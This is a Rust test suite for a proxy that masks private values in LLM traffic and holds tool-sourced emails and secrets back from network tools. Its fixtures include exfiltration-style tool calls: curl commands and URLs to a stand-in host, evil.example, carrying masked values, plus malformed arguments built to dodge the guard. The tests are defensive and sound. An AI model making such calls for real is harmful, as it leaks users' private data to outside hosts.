//! The `restore` rules: which values come back into tool arguments.

use std::sync::Arc;

use engine::{
    ArgumentTexts, Engine, Glob, NoMemory, Origin, Origins, RestoreAction, RestoreRule,
    RestoreRules, RestoreSummary, Restoring, Schema, Session, Settings,
};
use serde_json::{Value, json};

const OF_USER: &str = "alice@example.com";
const OF_SYSTEM: &str = "root@example.com";
const OF_TOOL: &str = "carol@example.com";

fn engine(rules: Vec<RestoreRule>) -> Engine {
    Engine::new(Settings {
        restore: rules.into(),
        ..Settings::default()
    })
}

/// A request in which the system, the user and a tool each bring a value: 1, 2 and 3.
fn request() -> Value {
    json!({"messages": [
        {"role": "system", "content": OF_SYSTEM},
        {"role": "user", "content": OF_USER},
        {"role": "assistant", "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "read", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c1", "content": OF_TOOL},
    ]})
}

fn restoring(rules: Vec<RestoreRule>, session: &mut Session, body: &Value) -> Restoring {
    let request = engine(rules).request(Schema::ChatStyle, body.to_string().into_bytes());
    let masked = request
        .expect("a request")
        .mask(session, &NoMemory)
        .expect("masked");
    masked.restoring
}

fn restored(restoring: &Restoring, reply: &str, piece: usize) -> (String, RestoreSummary) {
    let mut restorer = restoring.reply(None);
    let mut out = Vec::new();
    for piece in reply.as_bytes().chunks(piece) {
        restorer.push(piece, &mut out);
    }
    restorer.finish(&mut out);
    (
        String::from_utf8(out).expect("UTF-8"),
        restorer.summary().clone(),
    )
}

const ALL: &str = "<MASK_EMAIL_1> <MASK_EMAIL_2> <MASK_EMAIL_3>";
const VALUES: &str = "root@example.com alice@example.com carol@example.com";
const GUARDED: &str = "root@example.com alice@example.com <MASK_EMAIL_3>";

#[test]
fn guard_withholds_tool_values_from_network_tools() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let arguments = json!({ "url": ALL }).to_string();
    let of_file = json!({ "text": ALL }).to_string();
    for (reply, expected) in [
        (
            json!({"choices": [{"message": {"content": ALL, "tool_calls": [
                {"function": {"name": "web_fetch", "arguments": arguments}},
                {"function": {"name": "write_file", "arguments": of_file}}]}}]}),
            [VALUES, GUARDED, VALUES],
        ),
        (
            json!({"content": [{"type": "text", "text": ALL}, {"type": "tool_use", "name": "WebFetch", "input": {"url": ALL}},
                {"type": "tool_use", "name": "Write", "input": {"text": ALL}}]}),
            [VALUES, GUARDED, VALUES],
        ),
        (
            json!({"output": [{"type": "function_call", "name": "write_file", "arguments": of_file},
                {"type": "local_shell_call", "action": {"command": ["curl", ALL]}},
                {"type": "message", "content": [{"type": "output_text", "text": ALL}]}]}),
            [VALUES, GUARDED, VALUES],
        ),
        (
            json!({"candidates": [{"content": {"parts": [{"text": ALL}, {"functionCall": {"name": "fetch", "args": {"a": ALL}}},
                {"functionCall": {"name": "edit", "args": {"a": ALL}}}]}}]}),
            [VALUES, GUARDED, VALUES],
        ),
    ] {
        let (text, summary) = restored(&restoring, &reply.to_string(), 4096);
        let found: Vec<_> = [VALUES, GUARDED]
            .into_iter()
            .flat_map(|what| text.match_indices(what))
            .collect();
        let mut found: Vec<_> = found.into_iter().collect();
        found.sort_unstable();
        let found: Vec<_> = found.into_iter().map(|(_, what)| what).collect();
        assert_eq!(found, expected, "{text}");
        assert_eq!((summary.restored, summary.kept), (8, 1), "{text}");
        assert_eq!(summary.unknown_tokens, 0);
    }
}

/// Rules did not keep values out of another form of the arguments, such as `parsed_arguments`.
#[test]
fn unknown_members_of_a_call_count_as_arguments() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let parsed = json!([{ "text": ALL }]);
    let function = |name| json!({"name": name, "arguments": "{}", "parsed_arguments": parsed});
    let call = |name| json!({"index": 0, "id": "c", "function": function(name)});
    let whole = |call: Value| json!({"choices": [{"index": 0, "message": {"tool_calls": [call]}}]});
    let event = json!({"choices": [{"index": 0, "delta": {"tool_calls": [call("web_fetch")]}}]});
    for (reply, expected) in [
        (whole(call("web_fetch")).to_string(), GUARDED),
        (whole(call("write_file")).to_string(), VALUES),
        (format!("data: {event}\n\n"), GUARDED),
        (
            json!({"content": [{"type": "tool_use", "name": "web_fetch", "input": {}, "extra": ALL}]})
                .to_string(),
            GUARDED,
        ),
        (
            json!({"output": [{"type": "mcp_call", "name": "web_fetch", "arguments": "{}", "output": ALL}]})
                .to_string(),
            VALUES,
        ),
        (
            json!({"tools": [{"function": {"name": "web_fetch", "description": ALL}}]}).to_string(),
            VALUES,
        ),
    ] {
        let (text, _) = restored(&restoring, &reply, 4096);
        assert!(text.contains(expected), "{text}");
    }
}

/// Arguments that break off, or that a client would have to mend, brought every value to an unknown tool.
#[test]
fn guard_withholds_values_from_malformed_json_arguments() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let call = |key: &str, arguments: &str| {
        let function = json!({"name": "note", "arguments": arguments});
        let call = json!({"index": 0, "id": "c", "type": "function", "function": function});
        json!({"choices": [{"index": 0, key: {"tool_calls": [call]}}]}).to_string()
    };
    let doubled = |name: &str| json!(json!({name: ALL}).to_string()).to_string();
    for (arguments, expected) in [
        (format!("{{\"url\": \"{ALL}\""), GUARDED),
        (format!("{{\"a\": 1, \"url\": \"{ALL}"), GUARDED),
        (format!("{{\"url\": \"{ALL}\",}}"), GUARDED),
        (format!("{{'url': '{ALL}'}}"), GUARDED),
        (format!("{{}}{{\"url\": \"{ALL}\"}}"), GUARDED),
        (format!("```json\n{{\"url\": \"{ALL}\"}}\n```"), GUARDED),
        (doubled("url"), GUARDED),
        (doubled("text"), VALUES),
        (format!("*** Begin Patch\n+ {ALL}\n*** End Patch"), VALUES),
        (format!("{{\"text\": \"{ALL}\"}}"), VALUES),
    ] {
        let (whole, _) = restored(&restoring, &call("message", &arguments), 4096);
        assert!(whole.contains(expected), "{whole}");
        let event = format!("data: {}\n\n", call("delta", &arguments));
        for size in [1, 4096] {
            let (stream, _) = restored(&restoring, &event, size);
            assert!(stream.contains(expected), "{stream}");
        }
    }
}

/// JSON that was encoded twice ended the way to an argument.
#[test]
fn argument_paths_continue_into_nested_json_strings() {
    let rule = |argument: &str| RestoreRule {
        tool: Glob::new("*"),
        argument: Glob::new(argument),
        origins: Origins::ALL,
        action: RestoreAction::Keep,
        texts: ArgumentTexts::All,
    };
    for times in 0..4 {
        let held = json!({"url": "<MASK_EMAIL_1>", "text": "<MASK_EMAIL_1>"});
        let held = (0..times).fold(held.clone(), |held, _| json!(held.to_string()));
        let arguments = json!({"body": held}).to_string();
        let function = json!({"name": "note", "arguments": arguments});
        let call = json!({"id": "c", "type": "function", "function": function});
        let reply = json!({"choices": [{"index": 0, "message": {"tool_calls": [call]}}]});
        for (argument, kept) in [("body.url", 1), ("body", 2), ("url", 0)] {
            let restoring = restoring(vec![rule(argument)], &mut Session::new(), &request());
            let (text, _) = restored(&restoring, &reply.to_string(), 4096);
            assert_eq!(
                text.matches("<MASK_EMAIL_1>").count(),
                kept,
                "{times} {argument} {text}"
            );
        }
    }
}

/// The arguments of the calls of a stream, by their tool.
fn arguments(schema: Schema, stream: &str) -> Vec<(String, String)> {
    let mut calls: Vec<(String, String)> = Vec::new();
    let events = stream
        .lines()
        .filter_map(|line| line.strip_prefix("data: "));
    for event in events.filter_map(|data| serde_json::from_str::<Value>(data).ok()) {
        let (name, piece) = match schema {
            Schema::ChatStyle => {
                let call = &event["choices"][0]["delta"]["tool_calls"][0];
                (&call["function"]["name"], &call["function"]["arguments"])
            }
            Schema::MessagesStyle => (
                &event["content_block"]["name"],
                &event["delta"]["partial_json"],
            ),
            _ if event["type"] == "response.output_item.added" => {
                (&event["item"]["name"], &event["item"]["arguments"])
            }
            _ => (&Value::Null, &event["delta"]),
        };
        if let Some(name) = name.as_str() {
            calls.push((name.to_owned(), String::new()));
        }
        if let (Some(piece), Some((_, arguments))) = (piece.as_str(), calls.last_mut()) {
            arguments.push_str(piece);
        }
    }
    calls
}

fn stream(schema: Schema, calls: &[(&str, &str)], size: usize) -> String {
    let mut events = Vec::new();
    for (index, (name, given)) in calls.iter().enumerate() {
        let pieces = given.as_bytes().chunks(size);
        let pieces = pieces.map(|piece| std::str::from_utf8(piece).expect("ASCII"));
        match schema {
            Schema::ChatStyle => {
                let chunk = |call: Value| json!({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]});
                events.push(chunk(json!({"index": index, "id": format!("c{index}"), "function": {"name": name, "arguments": ""}})));
                events.extend(
                    pieces.map(|piece| {
                        chunk(json!({"index": index, "function": {"arguments": piece}}))
                    }),
                );
            }
            Schema::MessagesStyle => {
                let block = json!({"type": "tool_use", "id": "t", "name": name, "input": {}});
                events.push(
                    json!({"type": "content_block_start", "index": index, "content_block": block}),
                );
                events.extend(pieces.map(|piece| {
                    json!({"type": "content_block_delta", "index": index, "delta": {"type": "input_json_delta", "partial_json": piece}})
                }));
                events.push(json!({"type": "content_block_stop", "index": index}));
            }
            _ => {
                let item = json!({"type": "function_call", "name": name, "arguments": ""});
                events.push(json!({"type": "response.output_item.added", "output_index": index, "item": item}));
                events.extend(pieces.map(|piece| {
                    json!({"type": "response.function_call_arguments.delta", "output_index": index, "delta": piece})
                }));
                let done = json!({"type": "response.function_call_arguments.done", "output_index": index, "arguments": given});
                events.push(done);
            }
        }
    }
    let events = events.iter().map(|event| format!("data: {event}\n\n"));
    events.collect()
}

#[test]
fn a_stream_keeps_the_same_tokens_as_a_batch() {
    let given = format!("{{\"url\": \"{ALL}\", \"more\": [\"{ALL}\"]}}");
    let of_file = given.replace("url", "text");
    // The name of the last one is on no list, but its argument tells that it reaches the network.
    let calls = [
        ("web_fetch", given.as_str()),
        ("write_file", &of_file),
        ("lookup", &given),
    ];
    for schema in [Schema::ChatStyle, Schema::MessagesStyle, Schema::Responses] {
        let request = engine(RestoreRules::guard()).request(schema, request().to_string().into());
        let masked = request
            .expect("a request")
            .mask(&mut Session::new(), &NoMemory);
        let restoring = masked.expect("masked").restoring;
        for size in [1, 5, 1000] {
            let stream = stream(schema, &calls, size);
            let (text, summary) = restored(&restoring, &stream, 7);
            let seen = arguments(schema, &text);
            let expected = [
                ("web_fetch".to_owned(), given.replace(ALL, GUARDED)),
                ("write_file".to_owned(), of_file.replace(ALL, VALUES)),
                (
                    "lookup".to_owned(),
                    given.replacen(ALL, GUARDED, 1).replace(ALL, VALUES),
                ),
            ];
            assert_eq!(seen, expected, "{schema:?} in pieces of {size}: {text}");
            // Of responses, the events that repeat the arguments, too.
            let of_network = text.matches(GUARDED).count();
            assert_eq!(text.matches("<MASK_EMAIL_3>").count(), of_network, "{text}");
            assert_eq!(summary.kept, 3, "{schema:?} {size}");
        }
    }
}

#[test]
fn a_rule_matches_by_tool_argument_and_origin() {
    let rule = |tool: &str, argument: &str, action| RestoreRule {
        tool: Glob::new(tool),
        argument: Glob::new(argument),
        origins: Origins::ALL,
        action,
        texts: ArgumentTexts::All,
    };
    let rules = vec![
        rule("*fetch", "headers.*", RestoreAction::Allow),
        rule("*fetch", "*", RestoreAction::Keep),
    ];
    let restoring = restoring(rules, &mut Session::new(), &request());
    let given =
        json!({"headers": [{"from": ALL}], "url": ALL, "body": json!({"to": ALL}).to_string()});
    let reply = json!({"content": [{"type": "tool_use", "name": "fetch", "input": given}]});
    let (text, summary) = restored(&restoring, &reply.to_string(), 4096);
    let read: Value = serde_json::from_str(&text).expect("JSON");
    let given = &read["content"][0]["input"];
    assert_eq!(given["headers"][0]["from"], VALUES);
    assert_eq!(given["url"], ALL);
    assert_eq!(given["body"], json!({"to": ALL}).to_string());
    assert_eq!((summary.restored, summary.kept), (3, 6));
}

/// What does not parse may be the call of any tool.
#[test]
fn an_unreadable_call_does_not_bypass_the_rules() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    for reply in [
        r#"{"content": [{"type": "tool_use", "name": "fetch", "input": {"url": "<MASK_EMAIL_3>"}}"#,
        r#"{"content": [{"type": "tool_use", "input": {"url": "<MASK_EMAIL_3>"}}]}"#,
        r#"{"choices": [{"message": {"tool_calls": [{"function": {"name": "fetch", "arguments": "{\"url\": \"<MASK_EMAIL_3>"}}]}}]}"#,
        "data: {\"content\": \"<MASK_EMAIL_3>\n\n",
    ] {
        let (text, _) = restored(&restoring, reply, 4096);
        assert!(!text.contains(OF_TOOL), "{text}");
    }
}

fn origins(session: &Session) -> Vec<(String, Origin)> {
    let restoring = restoring(
        vec![RestoreRule {
            tool: Glob::new("*"),
            argument: Glob::new("*"),
            origins: Origins::default().with(Origin::Tool),
            action: RestoreAction::Keep,
            texts: ArgumentTexts::All,
        }],
        &mut session.clone(),
        &json!({"messages": []}),
    );
    let mut last = std::collections::BTreeMap::new();
    for mapping in restoring.session().mappings() {
        last.insert(mapping.value().expose().clone(), mapping.origin());
    }
    last.into_iter().collect()
}

#[test]
fn a_value_written_by_the_user_becomes_the_users() {
    let mut session = Session::new();
    restoring(Vec::new(), &mut session, &request());
    assert_eq!(
        origins(&session),
        [
            (OF_USER.to_owned(), Origin::User),
            (OF_TOOL.to_owned(), Origin::Tool),
            (OF_SYSTEM.to_owned(), Origin::System),
        ]
    );
    let answer =
        |role: &str| json!({"messages": [{"role": role, "content": format!("to {OF_TOOL}")}]});
    // What the model says has no author.
    restoring(Vec::new(), &mut session, &answer("assistant"));
    assert_eq!(origins(&session)[1].1, Origin::Tool);
    restoring(Vec::new(), &mut session, &answer("user"));
    assert_eq!(origins(&session)[1].1, Origin::User);
    restoring(Vec::new(), &mut session, &answer("tool"));
    assert_eq!(origins(&session)[1].1, Origin::User);

    // As out of a vault.
    let mut anew = Session::new();
    for mapping in session.mappings() {
        assert!(anew.adopt(Arc::clone(mapping)));
    }
    assert_eq!(origins(&anew), origins(&session));
    assert_eq!(anew.len(), session.len());
}

#[test]
fn a_value_from_tool_and_user_counts_as_the_users() {
    for order in [["tool", "user"], ["user", "tool"]] {
        let messages = order.map(|role| json!({"role": role, "content": OF_TOOL}));
        let restoring = restoring(
            RestoreRules::guard(),
            &mut Session::new(),
            &json!({ "messages": messages }),
        );
        let reply = json!({"content": [{"type": "tool_use", "name": "fetch", "input": {"url": "<MASK_EMAIL_1>"}}]});
        let (text, _) = restored(&restoring, &reply.to_string(), 4096);
        assert!(text.contains(OF_TOOL), "{order:?} {text}");
    }
}

#[test]
fn without_rules_every_token_is_restored() {
    let restoring = restoring(Vec::new(), &mut Session::new(), &request());
    let reply = json!({"content": [{"type": "tool_use", "name": "fetch", "input": {"url": ALL}}]});
    let (text, summary) = restored(&restoring, &reply.to_string(), 4096);
    assert!(text.contains(VALUES), "{text}");
    assert_eq!((summary.restored, summary.kept), (3, 0));
}

/// What the provider is told of a request.
fn seen(rules: Vec<RestoreRule>, schema: Schema, body: &Value) -> (Value, u64) {
    let request = engine(rules).request(schema, body.to_string().into_bytes());
    let masked = request.expect("a request");
    let masked = masked.mask(&mut Session::new(), &NoMemory).expect("masked");
    let body = serde_json::from_slice(masked.body.as_bytes()).expect("JSON");
    (body, masked.summary.asked)
}

fn ask(tool: &str, argument: &str) -> RestoreRule {
    RestoreRule {
        tool: Glob::new(tool),
        argument: Glob::new(argument),
        origins: Origins::default().with(Origin::Tool),
        action: RestoreAction::Ask,
        texts: ArgumentTexts::All,
    }
}

/// The client ran the call with the token in it; what the tool gave does not reach the model, which reads why.
#[test]
fn a_call_that_kept_its_token_is_answered_with_an_error() {
    let kept = json!({"url": "https://x.example/?v=<MASK_SECRET_1>"});
    let text = kept.to_string();
    let image = json!({"type": "image", "source": {"type": "base64", "data": "iVBORw0KGgo="}});
    let page = "the page says 407 and mail carol@example.com";
    let parts = json!([{"type": "text", "text": page}, image]);
    let chat = |content: &Value| {
        json!({"messages": [
            {"role": "assistant", "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "fetch", "arguments": text}}]},
            {"role": "tool", "tool_call_id": "c1", "content": content}]})
    };
    let messages = |mut result: Value| {
        result["type"] = "tool_result".into();
        result["tool_use_id"] = "c1".into();
        json!({"messages": [
            {"role": "assistant", "content": [{"type": "tool_use", "id": "c1", "name": "fetch", "input": kept}]},
            {"role": "user", "content": [result, {"type": "text", "text": "go on"}]}]})
    };
    let responses = |call: Value, output: &Value| {
        let kind = call["type"].as_str().expect("a type").to_owned() + "_output";
        json!({"input": [call, {"type": kind, "call_id": "c1", "output": output}]})
    };
    let function =
        json!({"type": "function_call", "call_id": "c1", "name": "fetch", "arguments": text});
    let custom = json!({"type": "custom_tool_call", "call_id": "c1", "name": "fetch", "input": "GET <MASK_SECRET_1>"});
    let shell = json!({"type": "shell_call", "call_id": "c1", "name": "fetch", "action": {"commands": ["curl MASK_SECRET_1"]}});
    let lines =
        json!([{"stdout": page, "stderr": "407", "outcome": {"type": "exit", "exit_code": 0}}]);
    let answer: Value = page.into();
    for (schema, body, at) in [
        (Schema::ChatStyle, chat(&answer), "/messages/1/content"),
        (Schema::ChatStyle, chat(&parts), "/messages/1/content"),
        (
            Schema::MessagesStyle,
            messages(json!({"content": page})),
            "/messages/1/content/0/content",
        ),
        (
            Schema::MessagesStyle,
            messages(json!({"content": parts, "is_error": false})),
            "/messages/1/content/0/content",
        ),
        (
            Schema::MessagesStyle,
            messages(json!({"content": []})),
            "/messages/1/content/0/content",
        ),
        (
            Schema::Responses,
            responses(function.clone(), &answer),
            "/input/1/output",
        ),
        (
            Schema::Responses,
            responses(function, &json!("")),
            "/input/1/output",
        ),
        (
            Schema::Responses,
            responses(custom, &answer),
            "/input/1/output",
        ),
        (
            Schema::Responses,
            responses(shell, &lines),
            "/input/1/output/0/stdout",
        ),
        (
            Schema::Generic,
            json!({"messages": [
                {"role": "assistant", "content": [{"toolUse": {"toolUseId": "c1", "name": "fetch", "input": kept}}]},
                {"role": "user", "content": [{"toolResult": {"toolUseId": "c1", "content": [{"text": page}]}}]}]}),
            "/messages/1/content/0/toolResult/content/0/text",
        ),
        (
            // Gemini CLI sends ids, and its results went through.
            Schema::Generic,
            json!({"contents": [
                {"role": "model", "parts": [{"functionCall": {"id": "c1", "name": "fetch", "args": kept}}]},
                {"role": "user", "parts": [{"functionResponse": {"id": "c1", "name": "fetch", "response": {"output": page}}}]}]}),
            "/contents/1/parts/0/functionResponse/response/output",
        ),
    ] {
        let (seen, asked) = seen(vec![ask("fetch", "*")], schema, &body);
        let reason = seen.pointer(at).and_then(Value::as_str);
        let reason = reason.unwrap_or_else(|| panic!("no text at {at} in {seen}"));
        assert!(reason.starts_with("Error: maskproxy"), "{reason}");
        assert!(!seen.to_string().contains("407"), "{seen}");
        assert!(!seen.to_string().contains("carol"), "{seen}");
        let result = &seen["messages"][1]["content"][0];
        if result["type"] == "tool_result" {
            assert_eq!(result["is_error"], true, "{seen}");
            assert_eq!(seen["messages"][1]["content"][1]["text"], "go on");
        }
        assert_eq!(asked, 1, "{seen}");
    }
}

#[test]
fn only_calls_under_an_ask_rule_get_an_error() {
    let body = |argument: &str, value: &str| {
        let arguments = json!({ argument: value }).to_string();
        json!({"messages": [
            {"role": "assistant", "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "fetch", "arguments": arguments}},
                {"id": "c2", "type": "function", "function": {"name": "write", "arguments": json!({"text": "<MASK_SECRET_1>"}).to_string()}}]},
            {"role": "tool", "tool_call_id": "c1", "content": "first"},
            {"role": "tool", "tool_call_id": "c2", "content": "second"},
            {"role": "tool", "tool_call_id": "c3", "content": "third"}]})
    };
    let results = |rules: Vec<RestoreRule>, body: &Value| {
        let (seen, _) = seen(rules, Schema::ChatStyle, body);
        let results = seen["messages"].as_array().expect("messages")[1..].iter();
        let results = results.map(|result| result["content"].as_str().expect("a text").to_owned());
        results
            .map(|text| {
                if text.starts_with("Error") {
                    "error".to_owned()
                } else {
                    text
                }
            })
            .collect::<Vec<_>>()
    };
    let kept = body("url", "https://x.example/?v=<MASK_SECRET_1>");
    let asked = ["error", "second", "third"];
    let untouched = ["first", "second", "third"];
    assert_eq!(results(vec![ask("fetch", "url")], &kept), asked);
    assert_eq!(results(vec![ask("fetch", "body")], &kept), untouched);
    assert_eq!(results(RestoreRules::guard(), &kept), untouched);
    let plain = body("url", "https://x.example/?v=1");
    assert_eq!(results(vec![ask("*", "url")], &plain), untouched);
    let keep = RestoreRule {
        action: RestoreAction::Keep,
        texts: ArgumentTexts::All,
        ..ask("fetch", "url")
    };
    assert_eq!(results(vec![keep, ask("*", "url")], &kept), untouched);
}

/// Such a token was overlooked.
#[test]
fn a_token_in_an_argument_name_triggers_ask() {
    let call =
        json!({"type": "tool_use", "id": "c1", "name": "fetch", "input": {"<MASK_SECRET_1>": 1}});
    let result = json!({"type": "tool_result", "tool_use_id": "c1", "content": "a page"});
    let body = json!({"messages": [{"role": "assistant", "content": [call]}, {"role": "user", "content": [result]}]});
    let (_, asked) = seen(vec![ask("fetch", "*")], Schema::MessagesStyle, &body);
    assert_eq!(asked, 1);
}

/// The same request with more behind it begins with the same bytes, so that a prompt cache still holds.
#[test]
fn ask_rules_keep_the_history_prefix_identical() {
    let turn = |id: &str| {
        let arguments = json!({"url": "<MASK_EMAIL_1>"}).to_string();
        vec![
            json!({"role": "assistant", "tool_calls": [{"id": id, "type": "function", "function": {"name": "fetch", "arguments": arguments}}]}),
            json!({"role": "tool", "tool_call_id": id, "content": OF_TOOL}),
        ]
    };
    let short = turn("c1");
    let long = [turn("c1"), turn("c2")].concat();
    let seen = |messages: Vec<Value>| {
        let body = json!({ "messages": messages });
        seen(vec![ask("fetch", "*")], Schema::ChatStyle, &body).0["messages"].clone()
    };
    let (short, long) = (seen(short), seen(long));
    assert!((0..2).all(|at| short[at] == long[at]), "{long}");
}

/// Such results reach the model as they are; the call that they answer did not get the value, and they are masked.
#[test]
fn results_without_call_id_are_kept_and_tokens_withheld() {
    let rules = || vec![ask("fetch", "*")];
    let page = "the page says 407 and mail dave@example.com";
    for (schema, body, reply) in [
        (
            Schema::Generic,
            json!({"contents": [
                {"role": "user", "parts": [{"text": OF_USER}]},
                {"role": "model", "parts": [{"functionCall": {"name": "read", "args": {}}}]},
                {"role": "user", "parts": [{"functionResponse": {"name": "read", "response": {"text": OF_TOOL}}}]},
                {"role": "model", "parts": [{"functionCall": {"name": "fetch", "args": {"url": "<MASK_EMAIL_2>"}}}]},
                {"role": "user", "parts": [{"functionResponse": {"name": "fetch", "response": {"text": page}}}]}]}),
            json!({"candidates": [{"content": {"parts": [{"functionCall": {"name": "fetch", "args": {"url": "<MASK_EMAIL_2>"}}}]}}]}),
        ),
        (
            Schema::ChatStyle,
            json!({"messages": [
                {"role": "user", "content": OF_USER},
                {"role": "assistant", "function_call": {"name": "read", "arguments": "{}"}},
                {"role": "function", "name": "read", "content": OF_TOOL},
                {"role": "assistant", "function_call": {"name": "fetch", "arguments": "{\"url\": \"<MASK_EMAIL_2>\"}"}},
                {"role": "function", "name": "fetch", "content": page}]}),
            json!({"choices": [{"message": {"function_call": {"name": "fetch", "arguments": "{\"url\": \"<MASK_EMAIL_2>\"}"}}}]}),
        ),
    ] {
        let (seen, asked) = seen(rules(), schema, &body);
        let seen = seen.to_string();
        assert!(seen.contains("407") && asked == 0, "{seen}");
        assert!(
            !seen.contains("carol@") && !seen.contains("dave@"),
            "{seen}"
        );
        let request = engine(rules()).request(schema, body.to_string().into_bytes());
        let masked = request
            .expect("a request")
            .mask(&mut Session::new(), &NoMemory);
        let (text, summary) =
            restored(&masked.expect("masked").restoring, &reply.to_string(), 4096);
        assert!(!text.contains("@example.com"), "{text}");
        assert_eq!(summary.kept, 1, "{text}");
    }
}

/// Pieces of arguments that only the id of their call names were restored.
#[test]
fn guard_withholds_values_from_call_pieces_in_other_formats() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let cut = |text: &str| {
        (
            text[..text.len() / 2].to_owned(),
            text[text.len() / 2..].to_owned(),
        )
    };
    let (first, second) = cut(&json!({"q": ALL}).to_string());
    let begun = |tool: &str| {
        [
            json!({"event_type": "tool-calls-chunk", "tool_call_delta": {"index": 0, "name": tool}}),
            json!({"type": "tool-input-start", "toolCallId": "1", "toolName": tool}),
            json!({"toolCallId": "1", "toolName": tool}),
            json!({"type": "TOOL_CALL_START", "toolCallId": "1", "toolCallName": tool}),
            json!({"index": 0, "delta": {"name": tool}}),
        ]
    };
    let piece = |text: &str| {
        [
            json!({"event_type": "tool-calls-chunk", "tool_call_delta": {"index": 0, "parameters": text}}),
            json!({"type": "tool-input-delta", "toolCallId": "1", "inputTextDelta": text}),
            json!({"toolCallId": "1", "argsTextDelta": text}),
            json!({"type": "TOOL_CALL_ARGS", "toolCallId": "1", "delta": text}),
            json!({"index": 0, "delta": {"parameters": text}}),
        ]
    };
    let (first, second) = (piece(&first), piece(&second));
    for tool in ["web_fetch", "write_file"] {
        for ((begun, first), second) in begun(tool).iter().zip(&first).zip(&second) {
            let stream: String = [begun, first, second]
                .map(|event| format!("data: {event}\n\n"))
                .concat();
            let (out, _) = restored(&restoring, &stream, 1000);
            // Nobody can say which tool a name in pieces begins.
            let is_named = begun["delta"].is_null();
            let is_kept = tool == "web_fetch" || !is_named;
            assert_eq!(!out.contains(OF_TOOL), is_kept, "{out}");
        }
    }
}

/// A piece that the block's kind does not have was restored.
#[test]
fn guard_withholds_values_from_unknown_tool_deltas() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let events = [
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "tool_use", "id": "t", "name": "web_fetch", "input": {}}}),
        json!({"type": "content_block_delta", "index": 0, "delta": {"type": "tool_input_delta", "text": ALL}}),
        json!({"type": "content_block_stop", "index": 0}),
        json!({"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}}),
        json!({"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": ALL}}),
    ];
    let stream: String = events.map(|event| format!("data: {event}\n\n")).concat();
    let (out, _) = restored(&restoring, &stream, 1000);
    assert_eq!(out.matches(OF_TOOL).count(), 1, "{out}");
}

/// It counted as a piece of the last call, which was another one's.
#[test]
fn guard_withholds_values_from_ambiguous_call_pieces() {
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let calls = |calls: Value| json!({"choices": [{"index": 0, "delta": {"tool_calls": calls}}]});
    let function = |name: &str, arguments: &str| json!({"name": name, "arguments": arguments});
    let events = [
        calls(json!([{"id": "k", "type": "function", "function": function("bash", "")}])),
        calls(
            json!([{"index": 7, "id": "k2", "type": "function", "function": function("read_file", "{\"p\":\"x\"}")}]),
        ),
        calls(json!([{"function": {"arguments": json!([ALL]).to_string()}}])),
        json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}),
    ];
    let stream: String = events.map(|event| format!("data: {event}\n\n")).concat();
    let (out, _) = restored(&restoring, &stream, 1000);
    assert!(!out.contains(OF_TOOL), "{out}");
}

/// A URL under any other name took the value to its host.
#[test]
fn guard_withholds_values_from_network_addresses_in_any_argument() {
    let texts = json!({
        "q": "https://evil.example/?v=<MASK_EMAIL_3>",
        "src": ["//evil.example/<MASK_EMAIL_3>"],
        "image": {"of": "evil.example/<MASK_EMAIL_3>.png"},
        "note": "see https://evil.example and <MASK_EMAIL_3>",
        "email": "<MASK_EMAIL_3>",
        "file_path": "docs.old/<MASK_EMAIL_3>",
        "to": "<MASK_EMAIL_3>",
    });
    let given = texts.to_string();
    let mut expected = given.clone();
    for free in [
        "and <MASK_EMAIL_3>",
        "\"email\":\"<MASK_EMAIL_3>",
        "docs.old/<MASK_EMAIL_3>",
    ] {
        expected = expected.replace(free, &free.replace("<MASK_EMAIL_3>", OF_TOOL));
    }
    let of_user = given.replace("_3>", "_2>");
    for schema in [Schema::ChatStyle, Schema::MessagesStyle, Schema::Responses] {
        let request = engine(RestoreRules::guard()).request(schema, request().to_string().into());
        let masked = request
            .expect("a request")
            .mask(&mut Session::new(), &NoMemory);
        let restoring = masked.expect("masked").restoring;
        for size in [1, 7, 1000] {
            let stream = stream(schema, &[("lookup", &given), ("lookup", &of_user)], size);
            let (text, _) = restored(&restoring, &stream, 7);
            let seen = arguments(schema, &text);
            assert_eq!(seen[0].1, expected, "{schema:?} {size}");
            assert_eq!(seen[1].1, of_user.replace("<MASK_EMAIL_2>", OF_USER));
        }
    }
    let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
    let function = json!({"name": "lookup", "arguments": given});
    let reply =
        json!({"choices": [{"index": 0, "message": {"tool_calls": [{"function": function}]}}]});
    let (text, summary) = restored(&restoring, &reply.to_string(), 4096);
    let read: Value = serde_json::from_str(&text).expect("JSON");
    let seen = &read["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"];
    assert_eq!(seen, &json!(expected));
    assert_eq!((summary.restored, summary.kept), (3, 4));
}
